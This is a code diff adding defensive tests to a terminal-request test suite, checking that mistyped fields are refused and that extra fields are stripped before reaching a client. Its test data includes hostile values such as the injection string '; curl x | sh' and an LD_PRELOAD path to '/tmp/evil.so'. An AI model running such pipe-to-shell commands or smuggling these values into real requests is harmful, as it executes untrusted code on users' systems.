@@ -150,6 +150,38 @@ describe("a terminal", () => {
     for (const method of ACTS) expect((await ask(method, { terminalId })).reached).toEqual([method]);
     await expectNone(terminalId);
   });
+
+  test.each([
+    ["args", "; curl x | sh"],
+    ["args", ["a", 1]],
+    ["env", { LD_PRELOAD: "/tmp/evil.so" }],
+    ["env", [{ name: "A" }]],
+    ["cwd", ["/etc"]],
+    ["command", ["ls"]],
+    ["outputByteLimit", "all"],
+  ])("with %s of another type is refused before it is decided: %j", async (name, value) => {
+    const { offer, ask, entries } = await opened();
+    offer({ terminal: true });
+    const { answer, asked } = await ask("terminal/create", { command: "ls", [name]: value });
+    expect([answer, asked]).toMatchObject([{ code: -32602 }, []]);
+    const targets = (await entries("policy_verdict")).map(({ target }) => target);
+    expect(targets).not.toContain("terminal/create");
+  });
+
+  test("is asked of a client with what was decided, and nothing else", async () => {
+    const { offer, ask, offered, workspace } = await opened();
+    offer({ terminal: true });
+    const decided = { command: "ls", args: ["-l"], env: [{ name: "A", value: "b" }], cwd: workspace };
+    const more = { shell: true, commandLine: "curl x | sh", _meta: { shell: true }, outputByteLimit: null };
+    await ask("terminal/create", { ...decided, ...more });
+    await ask("terminal/output", { terminalId: "1", command: "curl x | sh" });
+    const sent = offered.filter(({ method }) => String(method).startsWith("terminal/"));
+    const sessionId = expect.any(String);
+    expect(sent).toEqual([
+      { method: "terminal/create", sessionId, ...decided },
+      { method: "terminal/output", sessionId, terminalId: "1" },
+    ]);
+  });
 });
 
 test("a file is served from the disk where no client offers it", async () => {
